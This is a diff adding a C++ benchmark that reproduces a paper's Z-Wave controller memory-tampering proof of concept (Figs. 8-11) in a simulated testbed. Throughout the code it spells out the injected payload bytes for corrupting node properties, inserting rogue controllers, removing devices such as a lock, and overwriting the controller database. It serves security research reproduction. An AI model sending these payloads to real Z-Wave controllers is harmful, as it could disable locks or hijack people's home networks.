@@ -1,0 +1,70 @@
+// Figs. 8-11 reproduction: the controller-memory tampering screenshots as
+// before/after node-table dumps, driven by the actual PoC payloads over RF.
+#include "bench_util.h"
+#include "core/dongle.h"
+#include "sim/testbed.h"
+
+int main() {
+  using namespace zc;
+  bench::header("Figs. 8-11", "controller memory tampering proof-of-concept chain");
+
+  sim::TestbedConfig config;
+  config.controller_model = sim::DeviceModel::kD6_SamsungWv520;
+  sim::Testbed testbed(config);
+  auto& controller = testbed.controller();
+  core::ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
+                           testbed.attacker_radio_config("poc-dongle"));
+  const zwave::HomeId home = controller.home_id();
+
+  auto inject = [&](Bytes params) {
+    zwave::AppPayload payload;
+    payload.cmd_class = 0x01;
+    payload.command = 0x0D;
+    payload.params = std::move(params);
+    dongle.send_app(home, 0xE7, 0x01, payload);
+    dongle.run_for(100 * kMillisecond);
+  };
+  auto show = [&](const char* caption) {
+    std::printf("\n[%s]\n%s", caption, controller.node_table().render().c_str());
+  };
+
+  show("baseline");
+
+  // Fig. 8: lock (node 2) demoted to routing slave.
+  inject({0x00, sim::Testbed::kLockNodeId, 0x00});
+  show("Fig. 8  after property corruption: node 2 type changed to routing-slave");
+  const auto* lock = controller.node_table().find(sim::Testbed::kLockNodeId);
+  const bool fig8 = lock != nullptr && lock->basic_class == zwave::kBasicClassRoutingSlave;
+
+  testbed.restore_network();
+
+  // Fig. 9: rogue controllers 10 and 200 inserted.
+  inject({0x01, 10, 0x00});
+  inject({0x01, 200, 0x00});
+  show("Fig. 9  after rogue insertion: fake controllers #10 and #200");
+  const bool fig9 = controller.node_table().find(10) != nullptr &&
+                    controller.node_table().find(200) != nullptr;
+
+  testbed.restore_network();
+
+  // Fig. 10: nodes 2 and 3 removed.
+  inject({0x02, 0x02, 0x00});
+  inject({0x02, 0x03, 0x00});
+  show("Fig. 10 after removal: devices #2 and #3 gone");
+  const bool fig10 = controller.node_table().find(2) == nullptr &&
+                     controller.node_table().find(3) == nullptr;
+
+  testbed.restore_network();
+
+  // Fig. 11: whole database overwritten with fakes.
+  inject({0x03, 0x00, 0x00});
+  show("Fig. 11 after database overwrite: only fake devices remain");
+  const bool fig11 = controller.node_table().find(2) == nullptr &&
+                     controller.node_table().find(10) != nullptr;
+
+  std::printf("\nFig. 8: %s  Fig. 9: %s  Fig. 10: %s  Fig. 11: %s\n", bench::mark(fig8),
+              bench::mark(fig9), bench::mark(fig10), bench::mark(fig11));
+  std::printf("Figs. 8-11 overall: %s\n",
+              fig8 && fig9 && fig10 && fig11 ? "MATCHES PAPER" : "DIFFERS");
+  return 0;
+}
